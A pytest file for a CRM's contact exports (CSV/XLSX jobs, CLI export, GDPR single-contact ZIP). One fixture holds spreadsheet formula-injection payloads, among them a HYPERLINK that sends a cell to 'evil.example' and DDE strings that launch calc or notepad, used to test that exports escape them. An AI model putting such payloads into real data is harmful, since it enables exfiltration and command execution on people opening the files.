"""Exports (D8): the contacts table as CSV / XLSX (a job), `dossier export`, and one contact's data
(exportContact, a GDPR access request)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import sys
import zipfile
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from crm import storage
from crm.clock import utcnow
from crm.events import AccountEvent, CardEvent
from crm.exports import document as contact_document
from crm.exports.escaping import csv_safe
from crm.models import BackgroundJob, Contact, JourneyEvent
from dossier import Settings
from graph.ids import decode_id
from plugins import hookimpl
from plugins.manager import builtin_names
from tests.conftest import Api, AppFactory, Tenant, make_tenant
from tests.test_attachments import download, upload

CREATE_CONTACT = "mutation($i: CreateContactInput!) { createContact(input: $i) { id } }"
TAG = "mutation($i: TagInput!) { addTag(input: $i) { id } }"
DEAL = "mutation($i: AddDealInput!) { addDeal(input: $i) { id } }"
NOTE = "mutation($i: AddNoteInput!) { addNote(input: $i) { id } }"
TASK = "mutation($i: CreateTaskInput!) { createTask(input: $i) { id } }"
CALL = "mutation($i: ScheduleCallInput!) { scheduleCall(input: $i) { id } }"
FIELD = "mutation($i: CreateCustomFieldInput!) { createCustomField(input: $i) { key } }"
SET_VALUES = "mutation($i: SetCustomFieldValuesInput!) { setCustomFieldValues(input: $i) { id } }"
SEGMENT = "mutation($i: CreateSegmentInput!) { createSegment(input: $i) { id } }"
EXPORT = """mutation($i: ExportContactsInput!) { exportContacts(input: $i) {
  id kind status total done action file { name } } }"""
JOB = """query($id: ID!) { job(id: $id) { id status total done progress error
  ... on BulkJob { file { name contentType size downloadUrl(expiresIn: 60) } } } }"""
EXPORT_ONE = """mutation($id: ID!) { exportContact(id: $id) {
  document file { name contentType size downloadUrl } job { id kind status } } }"""


class Recorder:
    def __init__(self) -> None:
        self.calls: list[tuple[str, Any]] = []

    @hookimpl
    def contacts_exported(self, event: AccountEvent) -> None:
        self.calls.append(("contacts_exported", event))

    @hookimpl
    def contact_exported(self, event: CardEvent) -> None:
        self.calls.append(("contact_exported", event))


@pytest.fixture
def settings(settings: Settings) -> Settings:
    # Batches of 2: an export of a few contacts takes several steps (parts, then the file).
    return replace(settings, disabled_plugins=builtin_names(), job_batch_size=2)


@pytest.fixture
async def recorder(running_app: AppFactory) -> Any:
    found = Recorder()
    async with running_app(plugins=(found,)) as api:
        yield api, found


async def contact(api: Api, **fields: Any) -> str:
    return (await api.data(CREATE_CONTACT, {"i": fields}))["createContact"]["id"]


async def export(api: Api, **target: Any) -> dict[str, Any]:
    """Run exportContacts to the end: the finished job with its file's link."""
    job = (await api.data(EXPORT, {"i": target}))["exportContacts"]
    assert job["kind"] == "export.contacts" and job["status"] == "QUEUED" and job["action"] is None
    await api.runtime.dispatcher.drain()
    return (await api.data(JOB, {"id": job["id"]}))["job"]


async def fetch(api: Api, job: dict[str, Any]) -> bytes:
    assert job["status"] == "DONE", job
    got = await download(api, job["file"]["downloadUrl"])
    assert got.status_code == 200, got.text
    return got.content


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "a CSV starts with a byte order mark (Excel reads UTF-8)"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[list[str]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["Contacts"]
    return [[str(cell) for cell in row] for row in book.get_sheet_by_index(0).to_python()]


async def three(api: Api) -> list[str]:
    """Ada (tagged, a deal, a custom value), Grace and Linus (another owner), in creation order."""
    await api.data(FIELD, {"i": {"label": "Tier", "key": "tier", "type": "TEXT"}})
    ada = await contact(
        api, firstName="Ada", lastName="Lovelace", email="ada@example.com", phone="+14155550101"
    )
    grace = await contact(api, firstName="Grace", lastName="Hopper", email="grace@example.com")
    linus = await contact(api, firstName="Linus", lastName="Torvalds")
    await api.data(TAG, {"i": {"contactId": ada, "name": "VIP"}})
    await api.data(TAG, {"i": {"contactId": ada, "name": "beta"}})
    await api.data(
        DEAL,
        {
            "i": {
                "contactId": ada,
                "productName": "Roof",
                "amount": "1200.50",
                "currency": "USD",
                "paymentType": "ONE_TIME",
            }
        },
    )
    await api.data(SET_VALUES, {"i": {"contactId": ada, "values": [{"key": "tier", "value": "gold"}]}})
    return [ada, grace, linus]


COLUMNS = ["firstName", "lastName", "email", "phone", "tags", "customField:tier", "dealTotal", "dealCount"]


# --------------------------------------------------------------------------------------
# The table
# --------------------------------------------------------------------------------------


async def test_csv_export_of_chosen_contacts_has_the_columns_asked_for(
    as_admin: Api, settings: Settings
) -> None:
    ada, grace, linus = await three(as_admin)
    job = await export(as_admin, ids=[ada, grace, linus], columns=COLUMNS, format="CSV")
    assert (job["total"], job["done"], job["progress"]) == (3, 3, 1.0)
    assert job["file"]["name"].endswith(".csv") and job["file"]["contentType"].startswith("text/csv")
    rows = csv_rows(await fetch(as_admin, job))
    assert rows == [
        ["First name", "Last name", "Email", "Phone", "Tags", "Tier", "Deal total", "Deals"],
        ["Ada", "Lovelace", "ada@example.com", "+14155550101", "beta; VIP", "gold", "1200.50 USD", "1"],
        ["Grace", "Hopper", "grace@example.com", "", "", "", "", ""],
        ["Linus", "Torvalds", "", "", "", "", "", ""],
    ]
    # Batches of 2: the parts each step stored are gone, only the file is left.
    objects = [p for p in Path(settings.storage_dir or "").rglob("*") if p.is_file()]
    assert [p.name for p in objects] == [job["file"]["name"]]
    assert job["file"]["size"] == objects[0].stat().st_size


async def test_xlsx_export_holds_every_value_as_text(as_admin: Api) -> None:
    ada, grace, linus = await three(as_admin)
    job = await export(as_admin, ids=[ada, grace, linus], columns=COLUMNS, format="XLSX")
    assert job["file"]["name"].endswith(".xlsx")
    assert job["file"]["contentType"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = xlsx_rows(await fetch(as_admin, job))
    assert rows[0] == ["First name", "Last name", "Email", "Phone", "Tags", "Tier", "Deal total", "Deals"]
    # The phone keeps its +, the count is the text "1": cells are strings, never numbers.
    assert rows[1] == [
        "Ada",
        "Lovelace",
        "ada@example.com",
        "+14155550101",
        "beta; VIP",
        "gold",
        "1200.50 USD",
        "1",
    ]
    assert [row[0] for row in rows[1:]] == ["Ada", "Grace", "Linus"]


async def test_default_columns(as_admin: Api) -> None:
    ada = await contact(as_admin, firstName="Ada", lastName="Lovelace")
    rows = csv_rows(await fetch(as_admin, await export(as_admin, ids=[ada])))
    assert rows[0] == [
        "First name", "Last name", "Business name", "Email", "Phone", "Status", "Sub status",
        "Assigned to", "Tags", "City", "State", "Country", "Created at", "Last interaction",
    ]  # fmt: skip
    assert rows[1][:2] == ["Ada", "Lovelace"] and rows[1][12].endswith("Z")


HOSTILE = {
    "firstName": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "lastName": "+SUM(1,2)",
    "businessName": "@cmd|' /C calc'!A0",
    "title": "-2+3",
    "contactType": "=cmd|' /C notepad'!A1",
}


async def test_csv_cells_that_a_spreadsheet_would_evaluate_are_escaped(as_admin: Api) -> None:
    hostile = await contact(as_admin, **HOSTILE, phone="+14155550102")
    columns = ["firstName", "lastName", "businessName", "title", "contactType", "phone"]
    rows = csv_rows(await fetch(as_admin, await export(as_admin, ids=[hostile], columns=columns)))
    escaped = rows[1]
    for cell, name in zip(escaped[:5], columns[:5], strict=True):
        assert cell.startswith("'"), f"{name}: {cell!r} would be evaluated"
    assert escaped[0] == "'" + HOSTILE["firstName"]
    assert escaped[5] == "+14155550102"  # a plain number is no formula: the phone stays as it is


def test_formula_escaping_rules() -> None:
    for text in ("=1+2", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "-2+3", "+1 (555)"):
        assert csv_safe(text) == "'" + text
    for text in ("+14155550101", "-12.50", "12", "Ada", "", "a=b", "O'Neil"):
        assert csv_safe(text) == text


async def test_xlsx_cells_are_never_formulas(as_admin: Api) -> None:
    hostile = await contact(as_admin, **HOSTILE)
    columns = ["firstName", "lastName", "businessName", "title", "contactType"]
    data = await fetch(as_admin, await export(as_admin, ids=[hostile], columns=columns, format="XLSX"))
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert xlsx_rows(data)[1] == [HOSTILE[c] for c in columns]  # exactly the text, unescaped


async def test_filter_and_segment_targets(as_admin: Api) -> None:
    _, grace, linus = await three(as_admin)
    by_filter = await export(as_admin, filter={"firstName": {"in": ["Ada", "Linus"]}}, columns=["firstName"])
    assert by_filter["total"] == 2
    assert csv_rows(await fetch(as_admin, by_filter))[1:] == [["Ada"], ["Linus"]]
    segment = (await as_admin.data(SEGMENT, {"i": {"name": "Picked", "contactIds": [grace, linus]}}))[
        "createSegment"
    ]["id"]
    by_segment = await export(as_admin, segmentId=segment, columns=["firstName", "lastName"])
    assert csv_rows(await fetch(as_admin, by_segment))[1:] == [["Grace", "Hopper"], ["Linus", "Torvalds"]]
    nobody = await export(as_admin, filter={"firstName": {"eq": "Nobody"}}, columns=["firstName"])
    assert nobody["total"] == 0 and csv_rows(await fetch(as_admin, nobody)) == [["First name"]]


@pytest.mark.parametrize(
    ("target", "code", "field", "words"),
    [
        ({"columns": ["firstName", "shoeSize"]}, "BAD_USER_INPUT", "columns", "unknown column 'shoeSize'"),
        ({"columns": ["customField:nope"]}, "BAD_USER_INPUT", "columns", "names no custom field"),
        ({"columns": ["email", "email"]}, "BAD_USER_INPUT", "columns", "asked for twice"),
        ({"columns": ["email"] * 101}, "BAD_USER_INPUT", "columns", "at most 100"),
    ],
)
async def test_bad_columns_are_refused_and_queue_nothing(
    as_admin: Api, target: dict[str, Any], code: str, field: str, words: str
) -> None:
    ada = await contact(as_admin, firstName="Ada")
    error = await as_admin.error(EXPORT, {"i": {"ids": [ada], **target}})
    assert error["extensions"]["code"] == code and error["extensions"].get("field") == field
    assert words in error["message"]
    assert await BackgroundJob.all().count() == 0


async def test_targets_are_checked(as_admin: Api, acme: Tenant) -> None:
    ada = await contact(as_admin, firstName="Ada")
    globex = await make_tenant("Globex")
    theirs = await contact(as_admin.as_(globex.admin_key), firstName="Hidden")
    their_segment = (
        await as_admin.as_(globex.admin_key).data(SEGMENT, {"i": {"name": "Theirs", "contactIds": [theirs]}})
    )["createSegment"]["id"]
    error = await as_admin.error(EXPORT, {"i": {"ids": [ada, theirs]}})
    assert error["extensions"]["code"] == "NOT_FOUND"
    error = await as_admin.error(EXPORT, {"i": {"segmentId": their_segment}})
    assert error["extensions"]["code"] == "NOT_FOUND"
    error = await as_admin.error(EXPORT, {"i": {"ids": [ada], "filter": {"firstName": {"eq": "Ada"}}}})
    assert error["extensions"]["code"] == "BAD_USER_INPUT" and "exactly one" in error["message"]
    error = await as_admin.error(EXPORT, {"i": {}})
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    error = await as_admin.error(EXPORT, {"i": {"ids": [ada]}}, key=acme.rep_key)
    assert error["extensions"]["code"] == "FORBIDDEN"
    assert await BackgroundJob.all().count() == 0
    # A manager may.
    assert (await export(as_admin.as_(acme.manager_key), ids=[ada]))["status"] == "DONE"


async def test_the_file_link_is_the_accounts_and_expires(as_admin: Api, acme: Tenant) -> None:
    ada = await contact(as_admin, firstName="Ada")
    job = await export(as_admin, ids=[ada])
    assert (await download(as_admin, job["file"]["downloadUrl"])).status_code == 200
    globex = await make_tenant("Globex")
    error = await as_admin.error(JOB, {"id": job["id"]}, key=globex.admin_key)
    assert error["extensions"]["code"] == "NOT_FOUND"
    forged = job["file"]["downloadUrl"][:-3] + "abc"
    assert (await download(as_admin, forged)).status_code == 404


async def test_one_event_per_export_and_no_journey(recorder: Any) -> None:
    api, found = recorder
    tenant = await make_tenant("Acme")
    api = api.as_(tenant.admin_key)
    ids = [await contact(api, firstName=f"P{i}") for i in range(5)]
    before = await JourneyEvent.all().count()
    job = await export(api, ids=ids, format="XLSX")
    await api.runtime.dispatcher.drain()
    events = [event for name, event in found.calls if name == "contacts_exported"]
    assert len(events) == 1
    assert events[0].subject["rows"] == 5 and events[0].subject["format"] == "XLSX"
    assert events[0].subject["fileName"] == job["file"]["name"]
    assert await JourneyEvent.all().count() == before  # an export changes no card


async def test_a_step_run_again_after_a_crash_writes_the_same_file(as_admin: Api, settings: Settings) -> None:
    """A worker killed after storing a part, before its commit: the step runs again and rewrites
    that part under the same key; the file has every row once."""
    from crm import jobs

    ids = [await contact(as_admin, firstName=f"P{i}") for i in range(5)]
    job_id = (await as_admin.data(EXPORT, {"i": {"ids": ids, "columns": ["firstName"]}}))["exportContacts"][
        "id"
    ]
    row = await BackgroundJob.get(id=decode_id(job_id, "BulkJob"))
    original = jobs.JOB_KINDS["export.contacts"]

    async def crashing(job: Any, conn: Any, size: int) -> Any:
        await original.step(job, conn, size)  # stores its part ...
        raise RuntimeError("worker killed")  # ... and never commits

    jobs.JOB_KINDS["export.contacts"] = replace(original, step=crashing)
    try:
        with pytest.raises(RuntimeError):
            await jobs.run_step({"job_id": row.id, "step": 0})
    finally:
        jobs.JOB_KINDS["export.contacts"] = original
    await as_admin.runtime.dispatcher.drain()
    done = (await as_admin.data(JOB, {"id": job_id}))["job"]
    assert csv_rows(await fetch(as_admin, done))[1:] == [[f"P{i}"] for i in range(5)]


async def test_cancelled_export_has_no_file(as_admin: Api) -> None:
    ids = [await contact(as_admin, firstName=f"P{i}") for i in range(5)]
    job = (await as_admin.data(EXPORT, {"i": {"ids": ids}}))["exportContacts"]
    cancelled = await as_admin.data(
        "mutation($i: CancelJobInput!) { cancelJob(input: $i) { status } }", {"i": {"id": job["id"]}}
    )
    assert cancelled["cancelJob"]["status"] == "CANCELLED"
    await as_admin.runtime.dispatcher.drain()
    assert (await as_admin.data(JOB, {"id": job["id"]}))["job"]["file"] is None


# --------------------------------------------------------------------------------------
# One contact (GDPR)
# --------------------------------------------------------------------------------------


async def rich_card(api: Api) -> str:
    ada = await contact(api, firstName="Ada", lastName="Lovelace", email="ada@example.com")
    await api.data(TAG, {"i": {"contactId": ada, "name": "VIP"}})
    await api.data(
        DEAL,
        {
            "i": {
                "contactId": ada,
                "productName": "Roof",
                "amount": "100",
                "currency": "USD",
                "paymentType": "ONE_TIME",
            }
        },
    )
    await api.data(NOTE, {"i": {"contactId": ada, "body": "<p>Prefers mornings</p>"}})
    await api.data(TASK, {"i": {"contactId": ada, "kind": "TASK", "title": "Send the quote"}})
    later = (utcnow() + timedelta(days=2)).isoformat()
    await api.data(CALL, {"i": {"contactId": ada, "scheduledAt": later, "eventName": "Survey"}})
    await api.data(FIELD, {"i": {"label": "Tier", "key": "tier", "type": "TEXT"}})
    await api.data(SET_VALUES, {"i": {"contactId": ada, "values": [{"key": "tier", "value": "gold"}]}})
    await api.data(SEGMENT, {"i": {"name": "Best", "contactIds": [ada]}})
    await api.data(SEGMENT, {"i": {"name": "Adas", "filter": {"firstName": {"eq": "Ada"}}}})
    await api.data(SEGMENT, {"i": {"name": "Others", "filter": {"firstName": {"eq": "Bob"}}}})
    await upload(api, ada, b"%PDF-1.4 the signed contract", "contract.pdf", content_type="application/pdf")
    return ada


async def test_export_contact_gives_every_section_and_a_zip_with_the_files(recorder: Any) -> None:
    api, found = recorder
    tenant = await make_tenant("Acme")
    api = api.as_(tenant.admin_key)
    ada = await rich_card(api)
    made = (await api.data(EXPORT_ONE, {"id": ada}))["exportContact"]
    document = made["document"]
    assert document["contact"]["first_name"] == "Ada" and document["contact"]["email"] == "ada@example.com"
    assert [t["name"] for t in document["tags"]] == ["VIP"]
    assert [d["product_name"] for d in document["deals"]] == ["Roof"]
    assert "Prefers mornings" in document["notes"][0]["body"]
    assert [t["title"] for t in document["tasks"]] == ["Send the quote"]
    assert [c["event_name"] for c in document["calls"]] == ["Survey"]
    assert document["customFields"] == [{"key": "tier", "label": "Tier", "value": "gold"}]
    assert sorted(s["name"] for s in document["segments"]) == ["Adas", "Best"]
    assert len(document["journeyEvents"]) >= 6  # created, tagged, deal, note, task, call...
    (attachment,) = document["attachments"]
    assert attachment["filename"] == "contract.pdf" and "storage_key" not in attachment
    assert (await download(api, attachment["downloadUrl"])).content == b"%PDF-1.4 the signed contract"
    # Every section the models have is in the document (or excluded on purpose).
    for name, _, _ in contact_document.sections():
        assert name in document, name

    assert made["file"]["name"].endswith(".zip") and made["file"]["contentType"] == "application/zip"
    assert made["job"]["kind"] == "export.contact" and made["job"]["status"] == "DONE"
    got = await download(api, made["file"]["downloadUrl"])
    archive = zipfile.ZipFile(io.BytesIO(got.content))
    names = archive.namelist()
    assert names[:2] == ["contact.json", "README.txt"]
    assert archive.read(attachment["path"]) == b"%PDF-1.4 the signed contract"
    zipped = json.loads(archive.read("contact.json"))
    assert zipped["contact"] == document["contact"] and "downloadUrl" not in zipped["attachments"][0]
    assert "contact.json" in archive.read("README.txt").decode()

    journey = await JourneyEvent.filter(kind="CONTACT_EXPORTED").values("contact_id", "summary")
    assert len(journey) == 1 and "exported the contact's data" in journey[0]["summary"]
    await api.runtime.dispatcher.drain()
    events = [event for name, event in found.calls if name == "contact_exported"]
    assert len(events) == 1 and events[0].subject["files"] == 1


async def test_export_contact_permissions_and_other_accounts(as_admin: Api, acme: Tenant) -> None:
    ada = await contact(as_admin, firstName="Ada")
    error = await as_admin.error(EXPORT_ONE, {"id": ada}, key=acme.rep_key)
    assert error["extensions"]["code"] == "FORBIDDEN"
    globex = await make_tenant("Globex")
    error = await as_admin.error(EXPORT_ONE, {"id": ada}, key=globex.admin_key)
    assert error["extensions"]["code"] == "NOT_FOUND"
    error = await as_admin.error(
        "mutation($id: ID!) { exportContact(id: $id, expiresIn: 0) { document } }", {"id": ada}
    )
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    assert await BackgroundJob.all().count() == 0 and not [p for p in storage_objects(as_admin)]
    made = (await as_admin.data(EXPORT_ONE, {"id": ada}, key=acme.manager_key))["exportContact"]
    assert made["job"]["status"] == "DONE"


def storage_objects(api: Api) -> list[Path]:
    root = Path(api.runtime.settings.storage_dir or "")
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# --------------------------------------------------------------------------------------
# The CLI, and the storage sweep
# --------------------------------------------------------------------------------------


async def run_cli(settings: Settings, *args: str) -> tuple[int, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DOSSIER_")}
    env["DOSSIER_DATABASE_URL"] = settings.database_url
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "dossier.cli", *args, env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    output, _ = await asyncio.wait_for(process.communicate(), timeout=120)
    return process.returncode or 0, output.decode(errors="replace")


async def test_dossier_export_writes_the_file(as_admin: Api, settings: Settings, tmp_path: Path) -> None:
    _, grace, linus = await three(as_admin)
    segment = (await as_admin.data(SEGMENT, {"i": {"name": "Two", "contactIds": [grace, linus]}}))[
        "createSegment"
    ]["id"]
    out = tmp_path / "all.csv"
    code, output = await run_cli(settings, "export", "--account", "Acme", "--out", str(out),
                                 "--columns", "firstName,tags,customField:tier")  # fmt: skip
    assert code == 0, output
    assert "exported 3 contacts" in output
    assert csv_rows(out.read_bytes()) == [
        ["First name", "Tags", "Tier"], ["Ada", "beta; VIP", "gold"], ["Grace", "", ""], ["Linus", "", ""]
    ]  # fmt: skip
    out = tmp_path / "some.xlsx"
    starts_with_a = '{"firstName": {"startsWith": "a"}}'
    code, output = await run_cli(settings, "export", "--account", "Acme", "--out", str(out), "--format",
                                 "xlsx", "--filter", starts_with_a, "--columns", "firstName")  # fmt: skip
    assert code == 0, output
    assert xlsx_rows(out.read_bytes()) == [["First name"], ["Ada"]]
    code, output = await run_cli(settings, "export", "--account", "Acme", "--out", str(out),
                                 "--segment", segment, "--columns", "lastName")  # fmt: skip
    assert code == 0, output
    assert csv_rows(out.read_bytes())[1:] == [["Hopper"], ["Torvalds"]]
    code, output = await run_cli(settings, "export", "--account", "Acme", "--out", str(tmp_path / "x.csv"),
                                 "--filter", '{"firstName": {"like": "a"}}')  # fmt: skip
    assert code == 2 and "BAD_USER_INPUT" in output and "like" in output
    code, output = await run_cli(settings, "export", "--account", "Acme", "--out", str(tmp_path / "x.csv"),
                                 "--columns", "firstName,shoeSize")  # fmt: skip
    assert code == 2 and "unknown column 'shoeSize'" in output
    assert not (tmp_path / "x.csv").exists() and [p.name for p in tmp_path.glob(".*")] == []


async def test_the_storage_sweep_keeps_export_files(as_admin: Api) -> None:
    from crm.services.attachments import sweep

    ada = await contact(as_admin, firstName="Ada")
    job = await export(as_admin, ids=[ada])
    made = (await as_admin.data(EXPORT_ONE, {"id": ada}))["exportContact"]
    report = await sweep(grace=timedelta(0))
    assert report.orphans == []
    assert (await download(as_admin, job["file"]["downloadUrl"])).status_code == 200
    assert (await download(as_admin, made["file"]["downloadUrl"])).status_code == 200


async def test_every_section_of_the_demo_is_exported_whole(api: Api) -> None:
    """On the demo data (every section seeded somewhere): for each section, a contact that has
    rows there gets all of them in its document, and the ZIP holds its files."""
    from crm.actor import Actor
    from crm.models import Account, Attachment, User
    from crm.services.exports import export_contact
    from dossier.demo import DEMO_ACCOUNT, ensure_demo

    await ensure_demo(contacts=60, rich=12)
    account = await Account.get(name=DEMO_ACCOUNT)
    admin = await User.filter(account_id=account.id, role="admin").order_by("id").first()
    assert admin is not None
    actor = Actor.user(account.id, admin.id, admin.name, "admin")
    checked = set()
    for name, model, key in contact_document.sections():
        holder = await model.filter(**{f"{key}__isnull": False}).order_by("id").first().values(key)
        if holder is None:
            continue
        contact_id = holder[key]
        if not await Contact.filter(id=contact_id, account_id=account.id).exists():
            continue
        rows = await model.filter(**{key: contact_id}).count()  # before: the export journals itself
        made = await export_contact(actor, contact_id, base_url="http://dossier.test", expires_in=60)
        assert len(made.document[name]) == rows, name
        checked.add(name)
    # The demo seeds these sections: each was found and exported whole.
    assert {"journeyEvents", "messages", "notes", "calls", "deals", "tasks", "leads", "quotes", "jobs",
            "invoices", "rewardEntries", "customFieldValues", "attachments", "utms", "formAnswers",
            "contactProfiles", "conversions"} <= checked, checked  # fmt: skip
    with_files = await Attachment.filter(account_id=account.id).order_by("id").first()
    assert with_files is not None
    made = await export_contact(actor, with_files.contact_id, base_url="http://dossier.test", expires_in=60)  # type: ignore[attr-defined]
    data = b"".join([c async for c in await storage.current().open(made.job.file_key or "")])
    archive = zipfile.ZipFile(io.BytesIO(data))
    for entry in made.document["attachments"]:
        assert archive.getinfo(entry["path"]).file_size == entry["size"]


async def test_the_readme_example_runs(as_admin: Api) -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    example = re.search(r"```graphql\n(mutation \{\n  exportContacts.*?)```", readme, re.S)
    assert example is not None, "the README lost its export example"
    ada = await contact(as_admin, firstName="Ada", email="ada@example.com")
    await contact(as_admin, firstName="Bob")
    await as_admin.data(TAG, {"i": {"contactId": ada, "name": "VIP"}})
    job = (await as_admin.data(example.group(1)))["exportContacts"]
    assert (job["status"], job["total"]) == ("QUEUED", 1)
    await as_admin.runtime.dispatcher.drain()
    done = (await as_admin.data(JOB, {"id": job["id"]}))["job"]
    assert xlsx_rows(await fetch(as_admin, done)) == [
        ["First name", "Email", "Tags", "Deal total"], ["Ada", "ada@example.com", "VIP", ""]
    ]  # fmt: skip


async def test_progress_is_visible_while_it_runs(as_admin: Api) -> None:
    from crm import jobs

    ids = [await contact(as_admin, firstName=f"P{i}") for i in range(5)]
    job_id = (await as_admin.data(EXPORT, {"i": {"ids": ids}}))["exportContacts"]["id"]
    number = decode_id(job_id, "BulkJob")
    assert await jobs.run_step({"job_id": number, "step": 0})  # one batch of 2, as the worker would
    running = (await as_admin.data(JOB, {"id": job_id}))["job"]
    assert (running["status"], running["total"], running["done"], running["progress"]) == (
        "RUNNING",
        5,
        2,
        0.4,
    )
    assert running["file"] is None  # no file until the last step commits it
    await as_admin.runtime.dispatcher.drain()
    assert (await as_admin.data(JOB, {"id": job_id}))["job"]["done"] == 5


async def test_a_last_step_run_again_after_a_crash_keeps_its_file(as_admin: Api) -> None:
    """Killed after the file was written and the parts removed, before the commit: the step runs
    again, finds the parts gone and the file whole, and points the job at it."""
    from crm import jobs

    ids = [await contact(as_admin, firstName=f"P{i}") for i in range(5)]
    job_id = (await as_admin.data(EXPORT, {"i": {"ids": ids, "columns": ["firstName"]}}))["exportContacts"][
        "id"
    ]
    number = decode_id(job_id, "BulkJob")
    assert await jobs.run_step({"job_id": number, "step": 0})
    assert await jobs.run_step({"job_id": number, "step": 1})
    original = jobs.JOB_KINDS["export.contacts"]

    async def crashing(job: Any, conn: Any, size: int) -> Any:
        outcome = await original.step(job, conn, size)
        assert outcome.finished
        raise RuntimeError("worker killed")

    jobs.JOB_KINDS["export.contacts"] = replace(original, step=crashing)
    try:
        with pytest.raises(RuntimeError):
            await jobs.run_step({"job_id": number, "step": 2})
    finally:
        jobs.JOB_KINDS["export.contacts"] = original
    await as_admin.runtime.dispatcher.drain()
    done = (await as_admin.data(JOB, {"id": job_id}))["job"]
    assert csv_rows(await fetch(as_admin, done))[1:] == [[f"P{i}"] for i in range(5)]
